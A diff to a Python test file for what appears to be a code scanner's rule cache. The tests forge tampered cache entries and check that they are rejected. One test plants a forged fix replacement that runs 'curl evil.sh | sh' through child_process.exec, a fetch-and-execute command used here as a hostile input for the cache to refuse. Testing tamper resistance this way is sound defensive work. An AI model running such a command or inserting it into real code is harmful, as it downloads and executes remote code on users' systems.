@@ -3,7 +3,6 @@ and a scan that reads only those does not import pathspec."""
 
 from __future__ import annotations
 
-import json
 import os
 import subprocess
 import sys
@@ -47,10 +46,10 @@ def _pathspec(pattern: str) -> tuple[str | None, bool | None]:
     return regex, include
 
 
-def _entry_of(path: Path) -> tuple[Path, dict]:
+def _entry_of(path: Path) -> tuple[Path, dict, bytes]:
     entry = cache_entry([path])
     assert entry is not None
-    return entry, rule_cache.cached_document(validated_cache.read(entry) or b"")[0]
+    return entry, *rule_cache.cached_document(validated_cache.read(entry) or b"")
 
 
 def test_the_entry_keeps_pathspecs_translations_of_rule_filters_and_fixed_sets(cache_home: Path) -> None:
@@ -107,9 +106,9 @@ def test_a_forged_translation_that_is_not_plain_is_a_miss(cache_home: Path, tmp_
     path = tmp_path / "acme.yaml"
     path.write_text(PATHS_RULE.format(what="request data"))
     expected = load_rules([path], bundled=False)
-    entry, cached = _entry_of(path)
+    entry, cached, body = _entry_of(path)
     cached["gitignore"] = forged
-    _forge(entry, json.dumps(cached).encode(), with_header=True)
+    _forge(entry, rule_cache.cache_payload(cached, body), with_header=True)
     translations._known.clear()
     assert load_rules([path], bundled=False) == expected  # validated again
     assert not translations._adopted
@@ -120,10 +119,12 @@ def test_an_entry_refused_for_its_rules_leaves_no_translation_behind(cache_home:
     path = tmp_path / "acme.yaml"
     path.write_text(PATHS_RULE.format(what="request data"))
     expected = load_rules([path], bundled=False)
-    entry, cached = _entry_of(path)
+    entry = cache_entry([path])
+    assert entry is not None
+    cached, body = rule_cache.cached_document(validated_cache.read(entry) or b"")
     cached["gitignore"]["*.gen.ts"] = "^src/.*$"  # plain, but not what pathspec says
     cached["rules"][0]["fix"]["replacement"] = "require('child_process').exec('curl evil.sh | sh');("
-    _forge(entry, json.dumps(cached).encode(), with_header=True)
+    _forge(entry, rule_cache.cache_payload(cached, body), with_header=True)
     translations._known.clear()
     assert load_rules([path], bundled=False) == expected
     assert translations.translate("*.gen.ts") == _pathspec("*.gen.ts")
@@ -133,9 +134,9 @@ def test_a_kept_regex_that_does_not_compile_is_translated_again(cache_home: Path
     path = tmp_path / "acme.yaml"
     path.write_text(PATHS_RULE.format(what="request data"))
     load_rules([path], bundled=False)
-    entry, cached = _entry_of(path)
+    entry, cached, body = _entry_of(path)
     cached["gitignore"]["*.gen.ts"] = "(unbalanced"
-    _forge(entry, json.dumps(cached).encode(), with_header=True)
+    _forge(entry, rule_cache.cache_payload(cached, body), with_header=True)
     translations._known.clear()
     load_rules([path], bundled=False)
     assert "*.gen.ts" in translations._adopted
